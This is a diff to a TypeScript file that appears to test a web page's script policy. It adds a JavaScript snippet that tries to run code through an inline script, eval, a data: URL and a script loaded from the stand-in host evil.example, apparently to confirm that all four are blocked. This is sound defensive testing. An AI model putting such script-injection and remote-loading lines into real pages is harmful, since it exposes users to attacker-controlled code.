@@ -92,3 +92,17 @@ export function withOtherEvent(event: string, payload: object): (source: string)
 function digest(text: string): string {
   return `sha384-${createHash('sha384').update(text).digest('base64')}`
 }
+
+/** What no code of a page may do, as a script: an inline script, `eval`, a `data:` script and one from elsewhere. */
+export const FORBIDDEN = `var add = function (property, value) {
+  var script = document.createElement('script')
+  script[property] = value
+  document.head.append(script)
+}
+var ran = 'globalThis.ran = true'
+;[
+  function () { add('textContent', ran) },
+  function () { eval(ran) },
+  function () { add('src', 'data:text/javascript,' + ran) },
+  function () { add('src', 'https://evil.example/x.js') },
+].forEach(function (attempt) { try { attempt() } catch (refused) {} })`
